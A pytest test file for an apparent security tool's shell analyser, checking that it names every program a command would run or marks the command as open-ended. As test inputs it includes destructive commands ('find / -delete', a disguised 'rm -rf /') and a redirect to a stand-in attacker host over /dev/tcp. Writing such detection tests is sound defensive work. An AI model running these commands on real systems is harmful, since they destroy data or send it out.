"""The shell analyser: every program that would execute is named, or the finding says that there is more."""

from __future__ import annotations

import random
import shutil
import subprocess
import sys
import time
import timeit
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from navicert.adapters.detect.shell import LIMIT, ShellAnalyser
from navicert.core.canonical import parameter_bytes
from navicert.model.action import Action, Effect, ToolProfile
from navicert.model.errors import Unavailable
from navicert.model.signals import Finding
from navicert.ports import Detector

DATA = Path(__file__).parents[2] / "data" / "shell_corpus.txt"
CORPUS = [
    (kind, expected, text.replace("⏎", "\n"))
    for line in DATA.read_text(encoding="utf-8").splitlines()
    if not line.startswith("#")
    for kind, expected, text in [line.split(" :: ", 2)]
]
DELETES_BY_ITSELF = "find / -delete"
"""The one case of the corpus that escapes: no program but `find` executes, and it deletes."""

ANALYSER = ShellAnalyser()


def look(command: Any, categories: tuple[str, ...] = ("shell",), **roles: Any) -> Finding:
    parameters = command if isinstance(command, dict) else {"command": command}
    profile = ToolProfile(tool="shell.run", effect=Effect.EXECUTE, categories=categories, **roles)
    action = Action(
        action_id="act",
        tool="shell",
        operation="run",
        parameters=parameter_bytes({}),
        digest="",
        submitted_at=0,
        profile=profile,
    )
    return ANALYSER.measure(action, parameters, None)  # type: ignore[arg-type]


def value(command: Any, name: str) -> Any:
    found = look(command)
    assert found.looked, command
    return found.values[name]


def programs(command: Any) -> list[str]:
    return value(command, "shell_programs")


def open_ended(found: Finding) -> bool:
    return not found.looked or bool(found.values["shell_dynamic"] or found.values["shell_inline_code"])


def test_it_is_a_detector_that_runs_inline() -> None:
    assert isinstance(ANALYSER, Detector)
    assert ANALYSER.inline


@pytest.mark.parametrize(("expected", "text"), [case[1:] for case in CORPUS if case[0] == "hidden"])
def test_a_hidden_program_is_named_or_the_finding_says_that_there_is_more(expected: str, text: str) -> None:
    found = look(text)

    escaped = not open_ended(found) and expected not in found.values["shell_programs"]
    assert escaped == (text == DELETES_BY_ITSELF)


@pytest.mark.parametrize(("expected", "text"), [case[1:] for case in CORPUS if case[0] == "benign"])
def test_ordinary_work_has_exactly_the_programs_that_it_runs(expected: str, text: str) -> None:
    names, *flags = [part for part in expected.split(" ") if not part.startswith("+")] or [""], "+inline", "+dynamic"
    found = look(text)

    assert set(found.values["shell_programs"]) == {name for name in names[0].split(",") if name}
    assert [found.values["shell_inline_code"], found.values["shell_dynamic"]] == [flag in expected for flag in flags]


def test_the_corpus_is_large_enough_to_mean_something() -> None:
    assert min(sum(case[0] == kind for case in CORPUS) for kind in ("benign", "hidden")) >= 60


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("echo a > out", ["out"]),
        ("echo a >> 'my file' 2>&1", ["my file"]),
        ("make > /dev/null 2>/dev/null", []),
        ("cat < in", []),
        ("make &> log", ["log"]),
        ("echo a | tee b c", ["b", "c"]),
        ("sh -c 'echo a > inner'", ["inner"]),
        ("find . -fprint listing", ["listing"]),
        ("dd if=a of=b", ["b"]),
        ("echo a > /dev/tcp/evil.example/80", ["/dev/tcp/evil.example/80"]),
    ],
)
def test_files_that_are_redirected_to_are_named(command: str, expected: list[str]) -> None:
    assert value(command, "shell_writes") == expected


def test_a_computed_target_leaves_the_targets_open() -> None:
    assert "shell_writes" not in look('echo a > "$OUT"').values
    assert "shell_writes" not in look("echo a > *.txt").values


def test_texts_for_a_shell_are_read_within_texts_and_unknown_beyond_the_depth() -> None:
    def nested(times: int) -> str:
        text = "rm x"
        for _ in range(times):
            text = "sh -c '" + text.replace("'", "'\\''") + "'"
        return text

    assert programs(nested(4)) == ["sh", "rm"]
    assert not look(nested(5)).looked


@pytest.mark.parametrize(
    "command",
    [
        "echo 'open",
        "if true; then",
        "ls )",
        "{rm,-rf,/}",
        "ls\x00rm",
        "ls\rrm",
        "ls\u00a0rm",
        "ls \u2028 rm",
        "echo \ud800",
        ["echo", "\ud800"],
        "true;" * 501,
        "echo " + "a" * LIMIT,
        "a=(" * 5_000,
    ],
    ids=range(13),
)
def test_what_cannot_be_parsed_or_is_beyond_the_limits_is_unknown(command: Any) -> None:
    # seen to fail: with `root.has_error` not asked, and with the limits taken out of shell_reading
    assert not look(command).looked


def test_a_list_is_one_command_word_by_word() -> None:
    assert programs(["git", "commit", "-m", "rm it; $(curl)"]) == ["git"]
    assert programs(["sh", "-c", "ls | rm x"]) == ["sh", "ls", "rm"]
    assert programs(["env", "rm", "x"]) == ["env", "rm"]


def test_every_text_that_is_not_content_is_a_command() -> None:
    assert programs({"command": "ls", "then": "rm x"}) == ["ls", "rm"]
    assert look({"command": "cat", "stdin": "rm x; ("}, content=("stdin",)).values["shell_programs"] == ["cat"]


def test_a_line_that_goes_on_is_read_in_both_ways() -> None:
    # seen to fail: with the joined version left out, and with nothing but the joined version
    assert "rm" in programs("r\\\nm -rf /")
    assert "rm" in programs("# a comment \\\nrm -rf /")
    assert programs("docker run \\\n  --rm image") == ["docker"]


def test_an_option_that_we_do_not_know_may_take_the_program_for_its_value() -> None:
    assert value("nice --unheard-of x rm", "shell_dynamic") is True
    assert value("nice -n 5 rm", "shell_dynamic") is False


def test_what_xargs_and_find_add_to_a_command_is_not_known() -> None:
    for command in ("ls | xargs sh", "ls | xargs env", "ls | xargs -I% %", "find . -exec {} \\;", "ls | xargs bash -c"):
        assert value(command, "shell_dynamic") is True, command
    assert value("ls | xargs -I% mv % out/", "shell_dynamic") is False


def test_nothing_to_look_at_is_unknown() -> None:
    assert not look({}).looked
    assert not look({"command": "  ", "n": 1}).looked


def test_a_tool_of_another_category_costs_nothing_and_says_nothing() -> None:
    took = min(timeit.repeat(lambda: look("rm x", ("mail",)), number=500, repeat=5))

    assert look("rm x", ("mail",)) == Finding()
    assert took / 500 < 100e-6  # most of it is the making of the action


def test_without_the_parser_it_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delitem(sys.modules, "navicert.adapters.detect.shell_reading", raising=False)
    monkeypatch.delattr("navicert.adapters.detect.shell_reading", raising=False)
    monkeypatch.setitem(sys.modules, "tree_sitter_bash", None)

    with pytest.raises(Unavailable, match=r"install navicert\[analysers\]"):
        look("ls")
    assert look("ls", ()) == Finding()


TEXT = r"""
    pa pb pc echo cat env xargs nice nohup command exec eval ; && || | & ( ) $( ` " ' \ # $x ${x:- } <<< <( >o >
    if while case [[ ]] (( )) ! time x= A=1 $(( -c * {a,b} $' \x70 p a - -- E f() @( ;; <<E <<'E'
"""
PIECES = [*TEXT.split(), "\n", "\nE\n", "\\\n"]
FRAMES = [
    "%s",
    "echo %s",
    '"%s"',
    "sh -c '%s'",
    "cat <<E\n%s\nE\npc",
    "if pa; then %s; fi",
    "pa # %s\npb",
    "( %s )",
    "x=$(%s) pb",
    "case a in a) %s;; esac",
    'echo "${x:-%s}"',
]


@settings(deadline=None, max_examples=300)
@given(
    st.one_of(
        st.tuples(st.sampled_from(FRAMES), st.lists(st.sampled_from(PIECES), max_size=12)).map(
            lambda drawn: drawn[0].replace("%s", " ".join(drawn[1]))
        ),
        st.text(max_size=200),
    )
)
def test_whatever_the_text_there_is_an_answer(text: str) -> None:
    found = look(text)

    assert set(found.values) <= set(ANALYSER.signals)
    assert found.looked or not found.values


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash, to compare with")
def test_bash_executes_no_program_that_was_not_named(tmp_path: Path) -> None:
    """Random scripts over harmless programs are run by bash itself; `&` is left out, so that nothing runs on."""
    bin_, desk, log = tmp_path / "bin", tmp_path / "desk", tmp_path / "log"
    bin_.mkdir()
    desk.mkdir()
    for name in ("pa", "pb", "pc"):
        (bin_ / name).write_text(f"#!/bin/sh\necho {name} >> {log}\n")
        (bin_ / name).chmod(0o755)
    for name in ("bash", "sh", "cat", "env", "nice", "nohup", "xargs"):
        (bin_ / name).symlink_to(str(shutil.which(name)))
    chosen = random.Random(11)
    pieces = [piece for piece in PIECES if piece != "&"]
    compared = 0
    for _ in range(900):
        glue = chosen.choice(["", " ", " "])
        inner = glue.join(chosen.choice(pieces) for _ in range(chosen.randint(1, 6)))
        text = chosen.choice(FRAMES).replace("%s", inner)
        found = look(text)
        if open_ended(found) or "&" in text:
            continue
        log.write_text("")
        subprocess.run(
            [bin_ / "bash", "--norc", "-c", text],
            cwd=desk,
            env={"PATH": str(bin_)},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=20,
            check=False,
        )
        ran = set(log.read_text().split())
        compared += bool(ran)
        assert ran <= set(found.values["shell_programs"]), text
    assert compared > 100


@pytest.mark.parametrize("piece", ["a=(", ")=~", "$(", "a|", "<<a\n", "[[ ", "case a in ", "${x:-", "a\\\n", "env "])
def test_time_is_bounded_by_the_limits(piece: str) -> None:
    start = time.process_time()
    look((piece * LIMIT)[:LIMIT])
    assert time.process_time() - start < 5  # under half a second on a quiet machine
